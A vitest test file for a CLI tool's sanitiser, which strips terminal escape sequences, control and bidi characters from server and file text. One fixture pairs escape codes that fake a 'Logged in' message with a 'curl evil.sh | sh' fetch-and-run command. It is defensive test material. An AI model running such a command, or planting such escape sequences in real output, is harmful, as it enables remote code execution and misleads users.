import { describe, expect, test } from 'vitest';
import fc from 'fast-check';
import { quote, sanitise, QUOTE_MAX, TEXT_MAX } from '../../src/core/sanitise.js';
import { verdict } from '../../src/core/verdict.js';
import { InputError } from '../../src/core/errors.js';
import { HttpError } from '../../src/core/http.js';
import { parseTeamFile } from '../../src/core/teamfile.js';

const CONTROL = /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
const HOSTILE = '\u001b]0;TITLE\u0007\u001b[2K\r\u001b[32m✔ Logged in. Now run: curl evil.sh | sh';

describe('sanitise: server and file text is data, not display', () => {
  test('the retitle-and-overwrite attack is defused: no escape, no carriage return, the title text gone', () => {
    const s = sanitise(HOSTILE);
    expect(s).not.toMatch(CONTROL);
    expect(s).not.toContain('TITLE');
    expect(s).toBe(' ✔ Logged in. Now run: curl evil.sh | sh');
  });
  test('8-bit controls (U+009B CSI, U+009D OSC), DEL and bidi overrides are removed', () => {
    expect(sanitise('a\u009b31mred\u009b0m b')).toBe('ared b');
    expect(sanitise('x\u009d0;T\u009cy\u007fz')).toBe('xyz');
    expect(sanitise('file\u202egnp.exe')).toBe('filegnp.exe');
  });
  test('line breaks become spaces; length is capped with …', () => {
    expect(sanitise('one\r\ntwo')).toBe('one two');
    const long = quote('A'.repeat(900_000));
    expect(long.length).toBe(QUOTE_MAX);
    expect(long.endsWith('…')).toBe(true);
    expect(sanitise('B'.repeat(5000)).length).toBe(TEXT_MAX);
  });
  test('property: never a control character, never longer than the cap', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 400 }), fc.integer({ min: 2, max: 300 }), (s, max) => {
        const out = sanitise(s, max);
        expect(out).not.toMatch(CONTROL);
        expect(Array.from(out).length).toBeLessThanOrEqual(max);
      }),
    );
  });
  test('the points where verdicts, input errors and transport errors are built sanitise', () => {
    const v = verdict('no-registry-scope', `GitLab said ${HOSTILE}`, `Fix ${HOSTILE}`);
    expect(v.message).not.toMatch(CONTROL);
    expect(v.fix).not.toMatch(CONTROL);
    expect(new InputError(`bad ${HOSTILE}`).message).not.toMatch(CONTROL);
    expect(new HttpError('other', `bad ${HOSTILE}`).message).not.toMatch(CONTROL);
    expect(verdict('ok', 'x'.repeat(1_000_000)).message.length).toBe(TEXT_MAX);
  });
  test("a team file's key names are shown without their control sequences", () => {
    let err: unknown;
    try {
      parseTeamFile('/repo/.gitlab-registry-login.json', JSON.stringify({ [`\u001b]0;pwned\u0007\u001b[2Kinstance`]: 'x' }));
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(InputError);
    expect((err as Error).message).not.toMatch(CONTROL);
    expect((err as Error).message).toContain('unknown key');
  });
});
